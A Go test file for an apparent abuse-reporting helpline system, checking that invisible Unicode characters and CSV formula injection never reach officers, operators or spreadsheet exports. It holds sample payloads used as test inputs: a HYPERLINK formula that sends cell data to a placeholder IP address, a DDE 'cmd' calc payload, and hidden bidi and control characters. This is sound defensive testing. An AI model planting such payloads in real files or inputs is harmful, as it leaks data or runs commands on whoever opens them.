package main

import (
	"encoding/csv"
	"go/ast"
	"strings"
	"testing"
	"time"
	"unicode"

	"chumrok/internal/referral"
)

// trick is what a phone may type that shows nothing, moves a terminal's cursor, or turns the writing round.
const trick = "\x1b[2J\x07\u202e\u2066\u200b\u200c\u200d\ufeff\u2028\u034f\u3164\U000e0041\u180e\ufe0f\x00\u0085"

// tricky is a character that must reach no officer, no operator and no spreadsheet.
func tricky(r rune) bool {
	return unicode.IsControl(r) && r != '\n' || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector)
}

// plain says that a text holds none.
func (w *world) plain(what, text string) {
	w.t.Helper()
	for _, r := range text {
		if tricky(r) {
			w.t.Errorf("%s holds %U: %q", what, r, text)
			return
		}
	}
}

// TestAttackInvisibleCharacters: what cannot be seen hides no word from the rules that know danger, and reaches neither officers nor operators,
// from callers, from officers' notes, from operators' reasons; Khmer's own signs all stay. A directory with such names is not taken.
func TestAttackInvisibleCharacters(t *testing.T) {
	stories(t, func(w *world) {
		const khmer = "ស្រី្តម្នាក់ត្រូវគេវាយ ជួយខ្ញុំផង៕"
		hidden := strings.Join(strings.Split("My father has a knife and wants to kill my mother", ""), "\u200b\u2060")
		child := w.caller(childPhone).texts(trick + hidden + trick + khmer + trick)
		w.plain("the answer", child.screen)
		w.forward(3 * time.Minute)
		code := digitsIn(w.t, w.gets("desk", "Urgent"), 6) // danger is danger, whatever stands between its letters
		for _, args := range [][]string{{"referrals", "--reveal", code}, {"referrals", "--json", "--reveal", code}, {"holds"}, {"holds", "--json"}} {
			_, out := w.reveals(args...)
			w.plain(strings.Join(args, " "), out)
			if args[0] == "referrals" && (!strings.Contains(out, khmer) || !strings.Contains(out, "father has a knife")) {
				w.t.Errorf("%v: Khmer's own signs are gone: %s", args, out)
			}
		}
		w.replies("desk", "1")

		_, matter := w.tellsBySMS(spare(1))
		chair := w.onDuty("banan1-chair", w.pin("banan1-chair")).opens(matter)
		chair.presses("2", "1")
		chair.presses("4", "1", "1") // seen
		w.onDuty("banan1-chair", w.pin("banan1-chair")).opens(matter).presses("5", "1", trick+"helped"+trick+khmer)
		r, _, err := w.gateway.store.ReferralByCode(t.Context(), matter)
		if err != nil || r.State != referral.Closed || !strings.Contains(r.Note, "helped") || !strings.HasSuffix(r.Note, khmer) {
			w.t.Errorf("%s, the note is %q, %v", r.State, r.Note, err)
		}
		w.plain("an officer's note", r.Note)

		w.done("emergency", "on", "--area", "02", "--until", "2026-11-30", "--reason", "flood"+trick)
		w.plain("emergency list", w.done("emergency", "list"))
		w.done("holds", "release", code, "--to", "020101", "--reason", "looked"+trick+"at")
		for _, act := range w.record() {
			w.plain("the record", act)
		}
		for _, id := range []string{"banan1-chair", "banan1-focal", "banan1-police", "banan-office", "helpline", "battambang", "desk"} {
			for _, text := range w.takes(id) {
				w.plain("what "+id+" got", text)
			}
		}
		w.replaceInDirectory(`"Focal person, Kantueu Muoy"`, "Focal\u202e person")
		if status, out, _ := w.operates("check", w.env["CHUMROK_PACK"]); status != exitFault || !strings.Contains(out, "cannot be seen") {
			w.t.Errorf("a directory whose names turn round is taken: %d %s", status, out)
		}
	})
}

// formula is what a spreadsheet would work out when somebody opens a file with it.
const formula = `=HYPERLINK("http://192.0.2.1/?"&A1,"open")`

// TestAttackFormulas: formulas that callers and officers type reach no export; a list with formulas, hidden or not, changes no directory; and
// nobody writes a spreadsheet but the two who are looked at here.
func TestAttackFormulas(t *testing.T) {
	stories(t, func(w *world) {
		w.caller(childPhone).texts(formula + " he beats me").texts("+1+cmd|' /C calc'!A0").texts("@SUM(A1)").texts("2").texts("3")
		w.forward(31 * time.Minute)
		w.forgets("desk")
		out := w.done("figures", "--csv", "-")
		records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(records) < 20 {
			w.t.Fatalf("%d rows, %v", len(records), err)
		}
		for _, record := range records {
			for _, cell := range record {
				if begins := strings.TrimLeft(cell, " \t\r\n\u00a0\u200b\ufeff"); begins != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(begins)[0]) {
					w.t.Errorf("a spreadsheet takes %q for a formula", cell)
				}
			}
		}
		if strings.Contains(out, "HYPERLINK") || strings.Contains(out, "cmd|") {
			w.t.Error("what was typed is in the figures")
		}
		before, _ := w.inForce()
		row := w.chairRow()
		for _, name := range []string{formula, "+1+1", "-1+1", "@SUM(A1)", "\u200b=1+1", "\ufeff@SUM(A1)", "'=1+1", "＝1+1", "\u202e=1"} {
			list := w.list("list.csv", row, `banan1-chair,020101,committee,chair,1,"`+strings.ReplaceAll(name, `"`, `""`)+`",012 000 101,km,always,m,,`+"\n")
			if status, out, _ := w.operates("directory", "import", list); status != exitFault {
				w.t.Errorf("a name %q is taken: %s", name, out)
			}
		}
		if after, _ := w.inForce(); string(after) != string(before) {
			w.t.Error("the directory changed")
		}
		for _, file := range sourceFiles(w.t) {
			if safe := file.dir == "internal/figures" || file.dir == "internal/directory"; !file.test && !safe && writesCSV(file) {
				w.t.Errorf("%s writes CSV: let no cell begin as a formula does (figures.Plain), and say so here", file.path)
			}
		}
	})
}

// writesCSV says whether a file calls csv.NewWriter.
func writesCSV(file sourceFile) (writes bool) {
	ast.Inspect(file.ast, func(node ast.Node) bool {
		selector, ok := node.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		pkg, ok := selector.X.(*ast.Ident)
		writes = writes || ok && pkg.Name == "csv" && selector.Sel.Name == "NewWriter"
		return true
	})
	return writes
}
